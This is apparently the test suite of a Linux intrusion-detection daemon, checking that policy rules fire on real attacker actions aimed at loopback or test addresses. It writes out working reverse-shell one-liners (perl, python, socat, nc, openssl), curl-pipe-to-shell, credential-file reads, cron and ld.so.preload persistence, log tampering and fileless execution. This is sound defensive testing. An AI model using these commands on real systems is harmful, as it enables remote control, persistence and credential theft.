# SPDX-License-Identifier: GPL-2.0-or-later
"""The policy engine in the real daemon: every detection of the default
policy triggered by the real command an attacker would run, everyday
commands staying quiet, allow/exclude, dedup summaries, monitor-only block
verdicts, and SIGHUP reloads (a broken policy keeps the old one)."""

import http.server
import os
import shutil
import signal
import socket
import subprocess
import threading
import time
import uuid

import pytest

from conftest import (DEFAULT_POLICY, POLICY_A, SYSGUARDD, cgroup2_root, free_port, listener,
                      policy_engine_built, sgact, trigger_until, write)


@pytest.fixture
def dflt(daemon_factory):
    """A daemon on the shipped default policy."""
    policy_engine_built()
    return daemon_factory(policy=DEFAULT_POLICY)


def alerts(daemon, pid=None, rule=None):
    daemon.read()
    return [e for e in daemon.events if e.get("action") == "alert"
            and (pid is None or e.get("proc", {}).get("pid") == pid)
            and (rule is None or e.get("rule") == rule)]


def wait_rule(daemon, rule, pid=None, type_=None, action="alert"):
    return daemon.wait_for(lambda e: e.get("rule") == rule and e.get("action") == action
                           and (pid is None or e.get("proc", {}).get("pid") == pid)
                           and (type_ is None or e["type"] == type_),
                           what="rule %s%s" % (rule, "" if pid is None else " for pid %d" % pid))


class Ran:
    def __init__(self, pid):
        self.pid = pid


def run(daemon, *argv):
    """Run a command and return it (with .pid) once the daemon has seen its exec.
    It is started through timeout(1), so that its parent is not this Python
    interpreter (which matters to some rules)."""
    p = subprocess.Popen(["/usr/bin/timeout", "20"] + list(argv), stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL)
    p.wait()
    ev = daemon.wait_for(lambda e: e["type"] == "exec" and e.get("proc", {}).get("ppid") == p.pid,
                         what="exec of %s" % argv[0])
    return Ran(ev["proc"]["pid"])


def exec_pid(daemon, exe_base, argv_has):
    ev = daemon.wait_for(lambda e: e["type"] == "exec"
                         and os.path.basename(e["proc"].get("exe") or "") == exe_base
                         and any(argv_has in a for a in e["exec"]["argv"]),
                         what="exec of %s" % exe_base)
    return ev["proc"]["pid"]


# ---------------------------------------------------------------- detections

def test_persistence_cron_and_ld_preload(dflt, tmp):
    name = "/etc/cron.d/.sgtest-" + uuid.uuid4().hex  # cron ignores names with a dot
    try:
        pid, res = sgact("pid", "open", name, "wc")
        assert res["open"][0] >= 0
    finally:
        if os.path.exists(name):
            os.unlink(name)
    ev = wait_rule(dflt, "persistence-cron", pid)
    assert ev["severity"] == "high" and ev["file"]["path"] == name
    # an attempt is enough: O_WRONLY without O_CREAT fails when the file is absent
    if not os.path.exists("/etc/ld.so.preload"):
        pid, res = sgact("pid", "open", "/etc/ld.so.preload", "w")
        ev = wait_rule(dflt, "persistence-ld-preload", pid)
        assert ev["severity"] == "critical"


def test_persistence_user_files(dflt, tmp):
    os.makedirs(os.path.join(tmp, ".ssh"))
    pid, _ = sgact("pid", "open", os.path.join(tmp, ".ssh", "authorized_keys"), "wc",
                   "open", os.path.join(tmp, ".bashrc"), "wc",
                   "open", os.path.join(tmp, ".config-systemd-user-x"), "wc")
    wait_rule(dflt, "persistence-authorized-keys", pid)
    wait_rule(dflt, "persistence-shell-rc", pid)
    unit_dir = os.path.join(tmp, ".config", "systemd", "user")
    os.makedirs(unit_dir)
    src = os.path.join(tmp, "x.service")
    open(src, "w").close()
    pid, _ = sgact("pid", "rename", src, os.path.join(unit_dir, "x.service"))
    wait_rule(dflt, "persistence-systemd-unit", pid, type_="rename")


def test_credential_reads(dflt, tmp):
    p = run(dflt, "/bin/cat", "/etc/shadow")
    ev = wait_rule(dflt, "cred-shadow-read", p.pid)
    assert ev["file"]["path"] == "/etc/shadow"
    key = os.path.join(tmp, "id_ed25519")
    with open(key, "w") as f:
        f.write("not a key\n")
    p = run(dflt, "/bin/cat", key)
    wait_rule(dflt, "cred-ssh-private-key", p.pid)
    aws = os.path.join(tmp, ".aws")
    os.makedirs(aws)
    open(os.path.join(aws, "credentials"), "w").close()
    p = run(dflt, "/bin/cat", os.path.join(aws, "credentials"))
    wait_rule(dflt, "cred-cloud", p.pid)
    # the public key is not a secret
    open(key + ".pub", "w").close()
    p = run(dflt, "/bin/cat", key + ".pub")
    dflt.marker()
    assert not alerts(dflt, p.pid)


def test_execution(dflt, tmp):
    prog = os.path.join(tmp, "true")
    shutil.copy("/bin/true", prog)
    p = run(dflt, prog)
    wait_rule(dflt, "exec-from-temp", p.pid, type_="exec")
    # a shell started by a script interpreter
    marker = uuid.uuid4().hex
    run(dflt, "/usr/bin/python3", "-c", "import os; os.system('true %s')" % marker)
    sh = exec_pid(dflt, "dash", marker)
    wait_rule(dflt, "exec-shell-from-interpreter", sh)
    # decoded text piped into a shell through sh -c
    marker = uuid.uuid4().hex
    run(dflt, "/bin/sh", "-c", "echo dHJ1ZQo= | base64 -d | sh # %s" % marker)
    sh = exec_pid(dflt, "dash", marker)
    ev = wait_rule(dflt, "exec-download-pipe-shell", sh)
    assert ev["severity"] == "high"


def test_evasion(dflt, tmp):
    hist = os.path.join(tmp, ".bash_history")
    open(hist, "w").close()
    p = run(dflt, "/bin/rm", hist)
    wait_rule(dflt, "evasion-history-tamper", p.pid, type_="unlink")
    log = "/var/log/sgtest-%s.log" % uuid.uuid4().hex
    try:
        pid, _ = sgact("pid", "open", log, "wc", "unlink", log)
    finally:
        if os.path.exists(log):
            os.unlink(log)
    wait_rule(dflt, "evasion-log-tamper", pid, type_="open")
    wait_rule(dflt, "evasion-log-tamper", pid, type_="unlink")
    target = os.path.join(tmp, "suid")
    open(target, "w").close()
    p = run(dflt, "/bin/chmod", "u+s", target)
    wait_rule(dflt, "evasion-setuid", p.pid)
    p = run(dflt, "/bin/chmod", "0755", target)
    dflt.marker()
    assert not alerts(dflt, p.pid)


def test_setuid_by_syscall(dflt, tmp):
    """A set-uid or set-gid bit set in a writable directory by any program (here
    not chmod(1), whose exec the older rule watches) alerts from the chmod event
    itself; a plain mode change stays quiet."""
    target = os.path.join(tmp, "payload")
    open(target, "w").close()
    pid, _ = sgact("pid", "chmod", target, "4755", "fchmodat", tmp, "payload", "2755")
    evs = [wait_rule(dflt, "evasion-setuid-writable", pid, type_="chmod")]
    dflt.wait_for(lambda e: e.get("rule") == "evasion-setuid-writable" and e["type"] == "chmod"
                  and e["proc"]["pid"] == pid and e["syscall"] == "fchmodat",
                  what="the fchmodat alert")
    assert evs[0]["file"]["path"] == target and evs[0]["severity"] == "high"
    pid, _ = sgact("pid", "chmod", target, "755", "fchmod", target, "700")
    dflt.marker()
    assert not alerts(dflt, pid)


def test_c2_shell_connect(dflt):
    srv = listener()
    port = srv.getsockname()[1]
    try:
        p = run(dflt, "/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/%d" % port)
    finally:
        srv.close()
    ev = wait_rule(dflt, "c2-shell-connect", p.pid, type_="connect")
    assert ev["severity"] == "critical"


def test_c2_interpreter_odd_port(dflt):
    # a non-blocking connect to TEST-NET-1 returns at once (EINPROGRESS)
    code = ("import socket; s = socket.socket(); s.setblocking(False); "
            "s.connect_ex(('192.0.2.1', 4444))")
    p = run(dflt, "/usr/bin/python3", "-c", code)
    ev = wait_rule(dflt, "c2-interpreter-odd-port", p.pid, type_="connect")
    assert ev["net"]["port"] == 4444


@pytest.mark.parametrize("tool", ["nc", "ncat", "socat", "nmap"])
def test_c2_net_tool_exec(dflt, tool):
    path = shutil.which(tool)
    if not path:
        pytest.skip("%s is not installed" % tool)
    p = run(dflt, path, "-h")
    wait_rule(dflt, "c2-net-tool-exec", p.pid, type_="exec")


# ------------------------------------------------------------------- quiet

def test_benign_commands_stay_quiet(dflt, tmp):
    pids = []
    for argv in (["/bin/ls", "-la", "/etc"], ["/bin/cat", "/etc/hostname"],
                 ["/bin/cat", "/etc/passwd"], ["/usr/bin/id"], ["/bin/date"],
                 ["/usr/bin/sort", "/etc/services"], ["/bin/cp", "/etc/hosts", tmp],
                 ["/bin/mkdir", os.path.join(tmp, "d")], ["/bin/touch", os.path.join(tmp, "f")]):
        pids.append(run(dflt, *argv).pid)
    dflt.marker()
    assert not [e for e in alerts(dflt) if e.get("proc", {}).get("pid") in pids]
    # execs are logged as the audit trail, their file opens are not emitted
    for pid in pids:
        evs = dflt.by_pid(pid)
        assert [e["type"] for e in evs if e["type"] not in ("exec", "exit", "fork")] == []
        ex = [e for e in evs if e["type"] == "exec"]
        assert ex and ex[0]["action"] == "log" and ex[0]["rule"] == "audit-exec"


# ------------------------------------------- allow, exclude, dedup, block

def test_allow_exclude_dedup_block(daemon_factory, tmp):
    policy_engine_built()
    srv = listener()
    port = srv.getsockname()[1]
    path = os.path.join(tmp, "policy.yaml")
    write(path, POLICY_A % port)
    d = daemon_factory(policy=path)
    try:
        # the block rule loads with a monitor-only warning on the log
        assert any("monitor-only" in l for l in d.stderr_lines), d.stderr()
        t = subprocess.Popen(["/usr/bin/timeout", "20", "/bin/true"])
        s = subprocess.Popen(["/usr/bin/timeout", "20", "/usr/bin/sort", "/etc/hostname"],
                             stdout=subprocess.DEVNULL)
        t.wait()
        s.wait()
        pid, res = sgact("pid", "open", "/etc/shadow", "r", "open", "/etc/shadow", "r",
                         "open", "/etc/shadow", "r", "open", "/etc/shadow", "r",
                         "connect", "127.0.0.1", port)
    finally:
        srv.close()
    d.marker()
    # allow and exclude: nothing from true and sort (children of the timeouts)
    d.read()
    assert [e for e in d.events if e.get("proc", {}).get("ppid") in (t.pid, s.pid)] == []
    # the timeouts themselves are logged
    assert d.by_pid(t.pid, "exec") and d.by_pid(s.pid, "exec")
    # block: reported, not enforced (the connect went through)
    ev = wait_rule(d, "block-port", pid, action="block")
    assert ev["enforced"] is False and res["connect"] == [0]
    # dedup: the first open at once, the other three in one summary
    first = [e for e in d.by_pid(pid, "open") if e.get("rule") == "shadow"]
    assert len(first) >= 1 and "repeat" not in first[0]
    summary = d.wait_for(lambda e: e.get("proc", {}).get("pid") == pid and e.get("rule") == "shadow"
                         and e.get("repeat", 1) > 1, timeout=10, what="dedup summary")
    assert summary["repeat"] == 3
    assert len([e for e in d.by_pid(pid, "open") if e.get("rule") == "shadow"]) == 2


POLICY_B = """version: 1
defaults: {action: log}
rules:
  - {id: rule-b, events: [exec], match: {proc.argv: {contains: sgreload}}, action: alert}
"""

POLICY_BROKEN = """version: 1
rules:
  - {id: rule-c, events: [exec], match: {proc.argv: {contains: sgreload}}, action: explode}
"""


def test_reload(daemon_factory, tmp):
    policy_engine_built()
    path = os.path.join(tmp, "policy.yaml")
    write(path, POLICY_A % 1)
    d = daemon_factory(policy=path)
    trigger_until(d, "rule-a", timeout=2)
    # a broken policy is refused, with its position, and the old one stays
    write(path, POLICY_BROKEN)
    nlog = len(d.stderr_lines)
    d.proc.send_signal(signal.SIGHUP)
    deadline = time.monotonic() + 10
    while not any("policy.yaml:3:" in l for l in d.stderr_lines[nlog:]):
        assert time.monotonic() < deadline, "no error logged:\n" + d.stderr()
        time.sleep(0.05)
    assert any("explode" in l for l in d.stderr_lines[nlog:])
    trigger_until(d, "rule-a", timeout=2)
    # a good one replaces it
    write(path, POLICY_B)
    d.proc.send_signal(signal.SIGHUP)
    trigger_until(d, "rule-b")
    assert d.proc.poll() is None


def test_check_policy_flag(tmp):
    policy_engine_built()
    p = subprocess.run([SYSGUARDD, "-v", "--check-policy", DEFAULT_POLICY], capture_output=True,
                       text=True)
    assert p.returncode == 0 and p.stderr == ""
    assert p.stdout.startswith("version: 1\n") and "  - id: audit-exec\n" in p.stdout
    bad = os.path.join(tmp, "bad.yaml")
    write(bad, POLICY_BROKEN)
    p = subprocess.run([SYSGUARDD, "-n", bad], capture_output=True, text=True)
    assert p.returncode == 1 and p.stdout == ""
    assert p.stderr == ("%s:3:84: unknown action 'explode' (expected allow, log, alert, block)\n"
                        % bad)


# ---------------------------------------------------- exec context, fileless


def _revshell_listener():
    """A loopback listener that plays the attacker: it sends 'exit' to whatever
    shell connects, so the shell ends by itself."""
    srv = listener()

    def serve():
        try:
            srv.settimeout(20)
            c, _ = srv.accept()
            c.sendall(b"echo sgtest-revshell\nexit\n")
            c.settimeout(10)
            try:
                while c.recv(4096):
                    pass
            except OSError:
                pass
            c.close()
        except OSError:
            pass

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    return srv, t


@pytest.mark.parametrize("how", ["perl", "python", "socat"])
def test_reverse_shell_socket_stdio(dflt, how):
    """An interpreter connects to 127.0.0.1 and execs 'sh -i' with the socket as
    its stdio (perl, python), or socat gives a shell a socket pair: the shell's
    exec alerts, whatever started it."""
    srv, t = _revshell_listener()
    port = srv.getsockname()[1]
    try:
        if how == "perl":
            cmd = ["perl", "-e", "use Socket; socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
                   "connect(S,sockaddr_in(%d,inet_aton('127.0.0.1'))) or die;"
                   "open(STDIN,'>&S'); open(STDOUT,'>&S'); open(STDERR,'>&S');"
                   "exec('/bin/sh -i');" % port]
        elif how == "python":
            cmd = ["/usr/bin/python3", "-c", "import socket,os;s=socket.create_connection(("
                   "'127.0.0.1',%d));[os.dup2(s.fileno(),f) for f in (0,1,2)];"
                   "os.execv('/bin/sh',['sh','-i'])" % port]
        else:
            cmd = ["socat", "TCP:127.0.0.1:%d" % port, "EXEC:/bin/sh"]
        subprocess.run(["/usr/bin/timeout", "20"] + cmd, stdout=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL)
        t.join(20)
        ev = dflt.wait_for(lambda e: e.get("rule") == "c2-reverse-shell-stdio"
                           and e["type"] == "exec", what="reverse shell alert (%s)" % how)
        assert ev["severity"] == "critical"
        stdin = ev["exec"]["stdio"]["stdin"]
        assert stdin["kind"] == "socket"
        if how != "socat":
            assert stdin["family"] == "inet" and stdin["remote"] == "127.0.0.1:%d" % port
        else:
            assert stdin["family"] == "unix"
    finally:
        srv.close()


def test_reverse_shell_relay(dflt):
    """sh -i piped into nc: the shell's stdout reader is a network tool."""
    srv, t = _revshell_listener()
    port = srv.getsockname()[1]
    try:
        pipe = subprocess.Popen(["/usr/bin/timeout", "20", "/bin/bash", "-c",
                                 "nc 127.0.0.1 %d < /dev/null | /bin/sh -i 2>&1 | "
                                 "nc -q1 127.0.0.1 %d" % (port, port)],
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                start_new_session=True)
        try:
            dflt.wait_for(lambda e: e.get("rule") == "c2-reverse-shell-relay"
                          and e["type"] == "exec", what="relay alert")
        finally:
            os.killpg(pipe.pid, signal.SIGKILL)  # the whole pipeline: no need to wait it out
            pipe.wait()
    finally:
        srv.close()


class _Script(http.server.SimpleHTTPRequestHandler):
    def do_GET(self):
        body = b"echo sgtest-downloaded\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.mark.parametrize("tool", ["curl", "wget"])
def test_download_piped_into_shell(dflt, tool):
    """curl URL | sh typed at a prompt: the two sides are siblings, seen through
    the pipe between them (whichever execs second alerts)."""
    httpd = http.server.HTTPServer(("127.0.0.1", 0), _Script)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    url = "http://127.0.0.1:%d/x.sh" % httpd.server_address[1]
    get = "curl -s %s" % url if tool == "curl" else "wget -q -O- %s" % url
    try:
        p = subprocess.run(["/usr/bin/timeout", "20", "/bin/bash", "-c", "%s | sh" % get],
                           capture_output=True, text=True)
        assert "sgtest-downloaded" in p.stdout
        ev = dflt.wait_for(lambda e: e.get("rule") == "exec-download-pipe-peer",
                           what="download pipe alert (%s)" % tool)
        fds = ev["exec"]["stdio"]
        peer = fds["stdin"].get("peer") or fds["stdout"].get("peer")
        assert peer and os.path.basename(peer["exe"]) in (tool, "sh", "dash")
    finally:
        httpd.shutdown()


def test_secure_delete(dflt, tmp):
    f = os.path.join(tmp, "evidence.log")
    with open(f, "w") as fh:
        fh.write("x" * 4096)
    p = run(dflt, "/usr/bin/shred", "-u", f)
    wait_rule(dflt, "evasion-secure-delete", p.pid)
    assert not os.path.exists(f)


@pytest.mark.parametrize("kind", ["memfd", "deleted"])
def test_fileless_exec(dflt, tmp, kind):
    """A program run from a memfd, or from a file deleted before its exec."""
    src = os.path.join(tmp, "payload")
    shutil.copy("/bin/true", src)
    code = ("import os\n"
            "fd = os.memfd_create('sgpayload') if %r == 'memfd' else os.open(%r, os.O_RDONLY)\n"
            "if %r == 'memfd': os.write(fd, open('/bin/true', 'rb').read())\n"
            "else: os.unlink(%r)\n"
            "os.execve('/proc/self/fd/%%d' %% fd, ['sgfileless'], {})\n" % (kind, src, kind, src))
    subprocess.run(["/usr/bin/python3", "-c", code], check=True)
    ev = dflt.wait_for(lambda e: e.get("rule") == "exec-fileless" and e["type"] == "exec"
                       and e["exec"]["argv"] == ["sgfileless"], what="fileless alert")
    assert ev["exec"]["fileless"] == kind and ev["exec"]["via"] == "fd"
    if kind == "memfd":
        assert ev["proc"]["exe"] == "memfd:sgpayload"
    else:
        assert ev["proc"]["exe"] == src + " (deleted)"


def test_loader_run_from_writable_dir(dflt, tmp):
    prog = os.path.join(tmp, "prog")
    shutil.copy("/bin/true", prog)
    loader = "/lib64/ld-linux-x86-64.so.2"
    if not os.path.exists(loader):
        pytest.skip("no %s on this architecture" % loader)
    p = run(dflt, loader, prog, "sgloader")
    ev = wait_rule(dflt, "exec-loader-writable", p.pid)
    assert ev["exec"]["via"] == "loader" and ev["exec"]["loader_target"] == prog
    # the same loader running a system program stays quiet
    q = run(dflt, loader, "/usr/bin/true")
    dflt.marker()
    assert not alerts(dflt, q.pid)


# ---------------------------------------------------------- privilege events

_PTRACE_CODE = """
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
pid = os.fork()
if pid == 0:
    time.sleep(5)
    os._exit(0)
r = libc.ptrace(16, pid, 0, 0)            # PTRACE_ATTACH
os.waitpid(pid, 0)
libc.ptrace(17, pid, 0, 0)                # PTRACE_DETACH
os.kill(pid, 9)
print(pid, r)
"""


def test_ptrace_attach(dflt):
    """A process (not a debugger) attaching to another alerts, naming the target."""
    p = subprocess.run(["/usr/bin/python3", "-c", _PTRACE_CODE], capture_output=True, text=True,
                       check=True)
    target, r = (int(x) for x in p.stdout.split())
    assert r == 0
    ev = dflt.wait_for(lambda e: e.get("rule") == "priv-ptrace-attach"
                       and e["ptrace"]["target"]["pid"] == target, what="ptrace alert")
    assert ev["ptrace"]["request"] == "attach" and ev["syscall"] == "ptrace"
    assert ev["ptrace"]["target"]["exe"].startswith("/usr/bin/python3")


def test_gain_root(dflt):
    """uid 0 -> 1000 (keeping a saved uid of 0) -> 0: the second change gains
    root and alerts; the first, dropping privileges, does not."""
    code = ("import os\nos.setresuid(1000, 1000, 0)\nos.setresuid(0, 0, 0)\n"
            "print(os.getpid())\n")
    p = subprocess.run(["/usr/bin/python3", "-c", code], capture_output=True, text=True,
                       check=True)
    pid = int(p.stdout)
    ev = dflt.wait_for(lambda e: e.get("rule") == "priv-gain-root" and e["proc"]["pid"] == pid,
                       what="gain-root alert")
    assert ev["cred"]["old"]["euid"] == 1000 and ev["cred"]["new"]["euid"] == 0
    assert ev["cred"]["gain_root"] is True and ev["syscall"] == "setresuid"
    dflt.marker()
    assert len([e for e in alerts(dflt, pid) if e["type"] == "setuid"]) == 1


_BPF_CODE = """
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
insns = struct.pack("<BBhi", 0xb7, 0, 0, 0) + struct.pack("<BBhi", 0x95, 0, 0, 0)  # r0 = 0; exit
ibuf = ctypes.create_string_buffer(insns, len(insns))
lic = ctypes.create_string_buffer(b"GPL")
attr = ctypes.create_string_buffer(128)
struct.pack_into("<IIQQ", attr, 0, 1, 2, ctypes.addressof(ibuf), ctypes.addressof(lic))
attr[48:48 + 8] = b"sgtestp\\0"                 # prog_name
fd = libc.syscall(321, 5, attr, 128)            # bpf(BPF_PROG_LOAD)
print(fd)
"""


def test_bpf_load_by_another_process(dflt):
    p = subprocess.run(["/usr/bin/python3", "-c", _BPF_CODE], capture_output=True, text=True,
                       check=True)
    assert int(p.stdout) >= 0, p.stdout
    ev = dflt.wait_for(lambda e: e.get("rule") == "evasion-bpf-load"
                       and e["bpf"]["prog_name"] == "sgtestp", what="bpf load alert")
    assert ev["bpf"]["prog_type"] == 1 and ev["result"] >= 0


def test_module_load_traced(dflt):
    """module events need the init_module/finit_module tracepoints, which
    kernels built without module support do not have."""
    if not os.path.exists("/sys/kernel/tracing/events/syscalls/sys_enter_finit_module"):
        pytest.skip("this kernel has no module support (no finit_module tracepoint)")
    # finit_module of a file that is not a module fails, and is still reported
    bogus = "/tmp/sgtest-bogus-%s.ko" % uuid.uuid4().hex
    with open(bogus, "wb") as f:
        f.write(b"\x7fELF not a module")
    try:
        code = ("import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                "fd = os.open(%r, os.O_RDONLY)\nprint(libc.syscall(313, fd, b'', 0))\n" % bogus)
        subprocess.run(["/usr/bin/python3", "-c", code], check=True, capture_output=True)
        ev = dflt.wait_for(lambda e: e["type"] == "module" and e["module"]["path"] == bogus,
                           what="module event")
        assert ev["result"] < 0 and ev.get("rule") == "priv-module-load"
    finally:
        os.unlink(bogus)


def test_package_reinstall_stays_quiet(dflt):
    """A package upgrade (apt-get install --reinstall coreutils: dpkg unpacks,
    renames, chmods and runs maintainer scripts) raises no alert from any
    process it starts.  Needs Debian's package registry; skipped without it."""
    if not shutil.which("apt-get"):
        pytest.skip("no apt-get")
    env = dict(os.environ, DEBIAN_FRONTEND="noninteractive")
    dl = subprocess.run(["apt-get", "install", "--reinstall", "-y", "--download-only",
                         "coreutils"], capture_output=True, text=True, env=env, timeout=300)
    if dl.returncode != 0:
        pytest.skip("coreutils could not be downloaded: %s" % dl.stderr.strip()[-200:])
    # apt and everything it starts run in a cgroup of their own: events name it
    root = cgroup2_root()
    assert root, "no cgroup v2 mount"
    cg = os.path.join(root, "sgtest-apt-%s" % uuid.uuid4().hex[:8])
    os.mkdir(cg)
    try:
        cgid = os.stat(cg).st_ino

        def enter():
            with open(os.path.join(cg, "cgroup.procs"), "w") as f:
                f.write(str(os.getpid()))

        apt = subprocess.run(["apt-get", "install", "--reinstall", "-y", "coreutils"],
                             stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
                             env=env, preexec_fn=enter, timeout=300)
        assert apt.returncode == 0, apt.stderr
        dflt.marker()
        ours = [e for e in dflt.events if e.get("proc", {}).get("cgroup_id") == cgid]
        assert len([e for e in ours if e["type"] == "exec"]) > 5  # dpkg and its scripts
        noisy = [(e["rule"], e["proc"]["comm"]) for e in ours if e["action"] == "alert"]
        assert not noisy, noisy
    finally:
        os.rmdir(cg)


def test_reverse_shell_openssl_relay(dflt, tmp):
    """The openssl reverse shell: 'sh -i < fifo 2>&1 | openssl s_client ... > fifo'
    against a TLS listener on 127.0.0.1: the shell's output is piped to openssl."""
    if not shutil.which("openssl"):
        pytest.skip("no openssl")
    key, cert = os.path.join(tmp, "k.pem"), os.path.join(tmp, "c.pem")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key,
                    "-out", cert, "-days", "1", "-subj", "/CN=127.0.0.1"],
                   check=True, capture_output=True)
    port = free_port()
    srv = subprocess.Popen(["openssl", "s_server", "-quiet", "-accept", "127.0.0.1:%d" % port,
                            "-key", key, "-cert", cert], stdin=subprocess.PIPE,
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:  # until it listens
            with socket.socket() as c:
                if c.connect_ex(("127.0.0.1", port)) == 0:
                    break
            time.sleep(0.1)
        fifo = os.path.join(tmp, "f")
        sh = subprocess.Popen(["/usr/bin/timeout", "15", "/bin/bash", "-c",
                               "mkfifo %s; /bin/sh -i < %s 2>&1 | openssl s_client -quiet "
                               "-connect 127.0.0.1:%d > %s" % (fifo, fifo, port, fifo)],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                              start_new_session=True)
        try:
            ev = dflt.wait_for(lambda e: e.get("rule") == "c2-reverse-shell-relay",
                               what="openssl relay alert")
        finally:
            os.killpg(sh.pid, signal.SIGKILL)
            sh.wait()
        peer = ev["exec"]["stdio"]["stdout"].get("peer") or ev["exec"]["stdio"]["stdin"].get("peer")
        assert peer and os.path.basename(peer["exe"]) in ("openssl", "dash", "sh", "bash")
    finally:
        srv.kill()
        srv.wait()
